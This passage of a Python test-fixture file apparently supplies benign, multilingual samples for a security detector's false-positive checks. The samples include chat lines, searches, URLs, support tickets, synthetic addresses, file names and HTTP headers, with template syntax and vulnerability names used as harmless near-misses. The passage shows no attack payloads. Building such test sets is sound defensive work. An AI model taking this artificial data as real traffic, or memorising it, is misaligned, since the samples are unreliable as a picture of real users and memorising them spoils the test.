    "大家好，我是新来的后端同学，主要写 Java 和 Spring Boot，请多关照 🙏",
    "模板里直接写 {{ user.name }} 就能显示用户名了，Jinja2 默认会自动转义",
    "今天下午三点开会，讨论《用户增长季度报告》，地点在三楼会议室",
    "log4j 已经升级到 2.17.1 了，jndi 查找默认关闭，大家放心",
    "有人知道 fastjson 升级到 2.x 之后 autoType 怎么配置吗？我们只用它解析订单 JSON",
    "周五团建去西湖，记得带身份证～",
    "调 ffmpeg 的地方改成 ProcessBuilder 了，参数用数组传，不再拼字符串",
    "阿里云的 ECS 下周二凌晨维护，届时服务可能中断 10 分钟",
    "个人简介：热爱开源，喜欢 Vue 和 Go，业余时间在掘金写写技术文章",
    "「需求评审」改到明天上午十点，产品那边还在改原型",
    "```js\n// 获取用户列表\nconst users = await fetch('/api/users?page=1').then(r => r.json())\n```",
    "新版本的 Vue 模板 {{ message }} 和后端的 Jinja 冲突了，我们把 Jinja 的分隔符改成了 [[ ]]",
    # Russian
    "Всем привет! Я Алексей, DevOps в команде платформы, отвечаю за Kubernetes и CI",
    "Кто-нибудь знает, почему в шаблоне Twig {{ user.name|upper }} выводится пусто?",
    "«Отчёт за март» выложил в общий диск, посмотрите до пятницы",
    "Обновили Spring до 5.3.18 после истории со Spring4Shell, всё работает",
    "Не забудьте: в понедельник созвон в 11:00 по Москве",
    "```python\n# Проверяем токен перед запросом\nif not token:\n    raise ValueError('нет токена')\n```",
    "О себе: бэкенд на Kotlin, люблю горы и хорошие код-ревью",
    "в Kotlin строки вида \"Привет, ${name}!\" собираются на этапе компиляции, это не шаблонизатор",
    # Portuguese (Brazil)
    "Bom dia, pessoal! Alguém pode revisar meu PR do módulo de pagamentos? É só um ajuste no Pix",
    "No Rails a gente usa <%= @usuario.nome %> na view e o ERB já escapa o HTML",
    "Sou desenvolvedora backend em São Paulo, apaixonada por Ruby e café ☕",
    "Amanhã é feriado (Tiradentes), não marquem reunião",
    "o deploy de hoje quebrou o endpoint /api/pedidos, já revertemos",
    "```java\n// Lê o arquivo de configuração\nProperties p = new Properties();\n"
    "p.load(new FileInputStream(\"app.properties\"));\n```",
    # Indonesian
    "Halo semua, saya Budi dari tim mobile, salam kenal ya gan",
    "Mas, API /api/users kok lambat ya pagi ini? Coba dicek dulu dong",
    "Besok libur Idul Fitri, mohon maaf lahir dan batin 🙏",
    "Saya pakai Laravel Blade, {{ $user->name }} sudah otomatis di-escape kok",
    "Bio: programmer dari Bandung, suka ngopi dan main futsal tiap Jumat",
    # Turkish
    "Merhaba arkadaşlar, yeni sprint yarın başlıyor, görevleri Jira'ya ekledim",
    "Spring Boot'ta @Value(\"${server.port}\") ile portu okuyoruz, sorun yok",
    "İstanbul ofisinde internet kesik, bugün evden çalışıyorum",
    "Bio: Ankara'da yaşayan Java geliştiricisi, kahve ve bisiklet sever",
    "```go\n// Kullanıcıyı getir\nu, err := repo.FindUser(ctx, id)\n```",
    "Türkçe büyük harf sorunu yine çıktı: \"i\".toUpperCase() Türk yerelinde İ oluyor, Locale.ROOT kullanın",
    # Persian
    "سلام به همه! من مریم هستم، توسعه‌دهنده‌ی فرانت‌اند در تهران",
    "جلسه‌ی فردا ساعت ۱۰ صبح برگزار می‌شود، لطفاً دیر نکنید",
    "در ASP.NET از @Model.Name در Razor استفاده می‌کنیم و خروجی خودش encode می‌شود",
    "نوروز مبارک! 🌱 تا سیزده‌به‌در در مرخصی هستم",
    "```php\n// نمایش نام کاربر\necho htmlspecialchars($user['name']);\n```",
    # Vietnamese
    "Chào cả nhà, mình là Minh, làm backend Node.js ở Hà Nội",
    "Anh ơi, API đăng nhập trả về lỗi 500 từ sáng, anh kiểm tra giúp em với",
    "Tuần sau nghỉ Tết, mọi người nhớ bàn giao công việc nhé",
    "Trong EJS mình dùng <%= user.name %> là được, đừng dùng <%- %> với dữ liệu người dùng",
    "```yaml\n# cấu hình redis\nredis:\n  host: 127.0.0.1\n  port: 6379\n```",
    # Japanese
    "お疲れ様です。明日のリリース、「決済モジュール」の確認をお願いします",
    "Railsのビューは <%= @user.name %> で書いてます。h() は自動でかかります",
    "自己紹介：東京在住のエンジニアです。趣味はカメラと登山",
    "メトリクスは Grafana で見られます → https://grafana.example.org/d/api-latency",
    "```ruby\n# ユーザー名を表示\nputs user.name\n```",
    # Arabic
    "مرحبا بالجميع، أنا أحمد من فريق الدعم الفني في دبي",
    "الاجتماع الأسبوعي يوم الأحد الساعة ١١ صباحاً",
    "رمضان كريم 🌙 ساعات العمل من ٩ إلى ٣",
    # mixed, engineering
    "AWS 上的实例已经强制 IMDSv2 了，SDK 会自己处理 token，业务代码不用改",
    "Для Redis в docker-compose оставили порт 6379 только во внутренней сети",
    "A fila do Sidekiq travou de novo, reiniciei o worker às 14h",
    "Sunucu saat dilimi Europe/Istanbul olarak ayarlandı, loglar artık doğru görünüyor",
    "Cron job chạy lúc 2 giờ sáng để sao lưu cơ sở dữ liệu",
    "Jeeves のリマインダーを「毎週月曜 9:00」に設定しました",
    "Tim QA sudah selesai regression test, siap rilis sore ini",
    "قالب ایمیل خوش‌آمدگویی را با {{ first_name }} شخصی‌سازی کردیم",
    "这个 PR 把 Thymeleaf 的 th:text 都检查了一遍，没有用 th:utext 的地方了",
    "Подскажите, как в Go-шаблоне вывести {{ .Title }} без экранирования? Нужно только для админки",
    "Boa tarde! A documentação da API está em https://docs.example.com.br/v2",
    "Ekip toplantısı notları: «Ödeme servisi» için yük testi perşembe",
]

SEARCHES = [
    "王伟", "李娜 北京", "张敏", "陈静", "客服", "销售部",
    "Иванов", "Алексей Смирнов", "Ольга", "отдел продаж",
    "João da Silva", "Conceição", "Gonçalves", "suporte técnico",
    "Budi Santoso", "Siti Nurhaliza", "tim keuangan",
    "Çağrı Yılmaz", "Şükrü Öztürk", "muhasebe",
    "محمد رضایی", "زهرا احمدی", "پشتیبانی",
    "Nguyễn Văn An", "Trần Thị Bích", "phòng kỹ thuật",
    "山田太郎", "佐藤", "営業部",
    "عبد الله", "فاطمة الزهراء", "الدعم الفني",
    "zhang.wei@163.com", "ivan.petrov@yandex.ru", "joao@uol.com.br", "budi@gmail.co.id",
    "《三体》读书会", "«Война и мир»", "「東京」支店", "Müller", "Ng Kok Wai",
    "team:基础架构", "role:админ", "name:José", "city:Hà Nội",
]

URLS = [
    "https://www.baidu.com/s?wd=用户管理",
    "https://zhuanlan.zhihu.com/p/447129866",
    "https://juejin.cn/post/7088234958102380558",
    "https://habr.com/ru/articles/712345/",
    "https://yandex.ru/maps/213/moscow/",
    "https://vk.com/id1234567",
    "https://g1.globo.com/tecnologia/",
    "https://www.tokopedia.com/search?q=laptop",
    "https://www.kompas.com/tren/",
    "https://www.hurriyet.com.tr/ekonomi/",
    "https://www.digikala.com/search/?q=گوشی",
    "https://vnexpress.net/kinh-doanh",
    "https://qiita.com/tags/rails",
    "https://ja.wikipedia.org/wiki/東京都",
    "https://ru.wikipedia.org/wiki/Москва",
    "https://www.aljazeera.net/news/",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://spring.io/blog/2022/03/31/spring-framework-rce-early-announcement",
    "https://github.com/alibaba/fastjson2/wiki",
    "https://pt.stackoverflow.com/questions/tagged/ruby-on-rails",
]

PROSE = [
    "客户反馈：App 登录后显示「网络错误」，请尽快处理",
    "用户说收不到验证码短信，手机号 138 开头，已让他检查拦截设置",
    "订单 20240315001 退款申请，理由：尺码不合适",
    "Клиент пишет: «не приходит письмо с подтверждением», проверьте спам",
    "Пользователь просит удалить аккаунт по 152-ФЗ",
    "Cliente reclamou que o boleto não foi gerado depois do pagamento",
    "Usuário pediu alteração do CPF no cadastro",
    "Pelanggan tidak bisa login sejak kemarin, katanya OTP tidak masuk",
    "Müşteri şifre sıfırlama e-postası almadığını söylüyor",
    "Fatura adresi yanlış, müşteri düzeltilmesini istiyor",
    "مشتری می‌گوید کد یکبار مصرف را دریافت نمی‌کند",
    "Khách hàng báo lỗi không thanh toán được qua MoMo",
    "お客様から「パスワードを忘れた」との問い合わせ",
    "請求書の宛名を「株式会社山田商事」に変更してほしいとのこと",
    "العميل لا يستطيع تحميل الفاتورة بصيغة PDF",
    "用 ${变量} 的写法是 ES6 的模板字符串，不是服务端模板",
    "Jinja 里 {% for u in users %} 循环要记得 {% endfor %} 结束",
    "Twig: {% if user.isAdmin %} ... {% endif %} — это только для меню",
    "ERB: <% if @pedido.pago? %> mostra o recibo <% end %>",
    "Razor'da @if (Model.IsActive) { <span>Aktif</span> } şeklinde yazıyoruz",
    "Trong Pug: p Xin chào #{user.name}",
    "Handlebars: {{#each items}}{{this.title}}{{/each}} cho danh sách sản phẩm",
    "FreeMarker 模板 ${user.name!\"匿名\"} 里的感叹号是默认值",
    "Velocity: #if($user) Привет, $user.name #end",
    "Liquid: {{ product.title | upcase }} hiển thị tên sản phẩm",
    "Go template: {{ range .Items }}{{ .Name }}{{ end }} — için örnek",
    "Mako: ${user.name} aman kalau pakai filter h",
    "Log4j: logger.info(\"Usuário {} entrou\", nome) com placeholder, nunca concatenação",
    "Spring EL: @Value(\"#{systemProperties['user.region']}\") для региона по умолчанию",
    "Node: const { execFile } = require('child_process') — execFile ile argüman dizisi",
    "Ruby: system('convert', input, output) com array de argumentos, sem shell",
    "Perl: open(my $fh, '<', $path) or die — ba tham số, an toàn hơn",
    "data: URL cho ảnh đại diện nhỏ: data:image/png;base64,iVBORw0KGgo=",
    "metadata của ảnh bị mất khi nén, cần giữ lại EXIF",
    "内网地址 10.0.0.0/8 是办公网，访客 Wi-Fi 在 192.168.100.0/24",
]

PROFILES = [
    ("张伟", "北京市朝阳区建国路88号"),
    ("李娜", "上海市浦东新区世纪大道100号"),
    ("陈晓明", "广东省深圳市南山区科技园南区"),
    ("Иван Петров", "Москва, ул. Тверская, д. 7, кв. 12"),
    ("Ольга Смирнова", "Санкт-Петербург, Невский проспект, 28"),
    ("Дмитрий Кузнецов", "Новосибирск, Красный проспект, 50"),
    ("João Pereira", "Rua Augusta, 1500 - Consolação, São Paulo - SP, 01304-001"),
    ("Maria da Conceição", "Av. Atlântica, 1702 - Copacabana, Rio de Janeiro - RJ"),
    ("Ana Luíza Gonçalves", "Rua da Bahia, 1148 - Centro, Belo Horizonte - MG"),
    ("Budi Santoso", "Jl. Sudirman No. 45, Jakarta Selatan 12190"),
    ("Siti Rahmawati", "Jl. Malioboro No. 12, Yogyakarta"),
    ("Agus Wijaya", "Jl. Asia Afrika No. 8, Bandung"),
    ("Ayşe Yılmaz", "Bağdat Cd. No:210, Kadıköy/İstanbul"),
    ("Mehmet Çelik", "Atatürk Blv. No:5, Çankaya/Ankara"),
    ("Zeynep Şahin", "Kordon Boyu, Alsancak/İzmir"),
    ("علی رضایی", "تهران، خیابان ولیعصر، پلاک ۱۲"),
    ("مریم احمدی", "اصفهان، خیابان چهارباغ، کوچه ۵"),
    ("Nguyễn Thị Lan", "123 Lê Lợi, Quận 1, TP. Hồ Chí Minh"),
    ("Trần Văn Hùng", "45 Hàng Bài, Hoàn Kiếm, Hà Nội"),
    ("Phạm Minh Châu", "78 Trần Phú, Hải Châu, Đà Nẵng"),
    ("山田 花子", "東京都渋谷区神南1-2-3"),
    ("佐藤 健", "大阪府大阪市北区梅田2-4-9"),
    ("鈴木 一郎", "愛知県名古屋市中区栄3-5-1"),
    ("محمد العلي", "الرياض، حي العليا، شارع التحلية"),
    ("فاطمة حسن", "القاهرة، مدينة نصر، شارع عباس العقاد"),
    ("O'Connor Wang", "12 Nathan Road, Tsim Sha Tsui, Kowloon"),
]

UPLOAD_NAMES = [
    "报告_2024年第三季度.pdf",
    "合同扫描件（盖章版）.jpg",
    "《用户手册》v2.pdf",
    "Отчёт за март.xlsx",
    "договор №15.docx",
    "relatório-final.docx",
    "nota_fiscal_0042.pdf",
    "laporan keuangan Q1.xlsx",
    "foto KTP.jpg",
    "sözleşme_imzalı.pdf",
    "fatura-Ocak.pdf",
    "رزومه_مریم.pdf",
    "فاکتور ۱۴۰۲.pdf",
    "báo cáo tháng 3.docx",
    "hóa đơn.png",
    "見積書_山田商事.pdf",
    "議事録(4月).docx",
    "السيرة الذاتية.pdf",
    "تقرير المبيعات.xlsx",
    "users_export_导出.csv",
]


def _q(text: str) -> str:
    return urllib.parse.quote(text)


BENIGN_HEADERS = [
    ("Accept-Language", "zh-CN,zh;q=0.9,en;q=0.8"),
    ("Accept-Language", "ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7"),
    ("Accept-Language", "pt-BR,pt;q=0.9,en-US;q=0.8"),
    ("Accept-Language", "id-ID,id;q=0.9,en;q=0.8"),
    ("Accept-Language", "tr-TR,tr;q=0.9"),
    ("Accept-Language", "fa-IR,fa;q=0.9,en;q=0.7"),
    ("Accept-Language", "vi-VN,vi;q=0.9,fr;q=0.6"),
    ("Accept-Language", "ja-JP,ja;q=0.9"),
    ("Accept-Language", "ar-SA,ar;q=0.9,en;q=0.8"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/120.0.0.0 YaBrowser/24.1.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Linux; U; Android 12; zh-CN; V2148A Build/SP1A.210812.003) AppleWebKit/537.36 "
                   "(KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.58 UCBrowser/15.5.0.1302 Mobile Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Mobile/15E148 MicroMessenger/8.0.44(0x18002c2c) NetType/WIFI Language/zh_CN"),
    ("User-Agent", "Mozilla/5.0 (Linux; Android 13; SM-A536E) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36"),
    ("Referer", "https://www.baidu.com/s?wd=" + _q("用户管理")),
    ("Referer", "https://yandex.ru/search/?text=" + _q("пользователи")),
    ("Referer", "https://www.google.com.br/search?q=" + _q("gestão de usuários")),
    ("Referer", "https://coccoc.com/search?query=" + _q("quản lý người dùng")),
    ("Cookie", "session=abc123; lang=zh-CN; tz=Asia%2FShanghai"),
    ("Cookie", "session=abc123; locale=fa_IR; calendar=persian"),
    ("Cookie", "session=abc123; locale=ja_JP; tz=Asia%2FTokyo"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
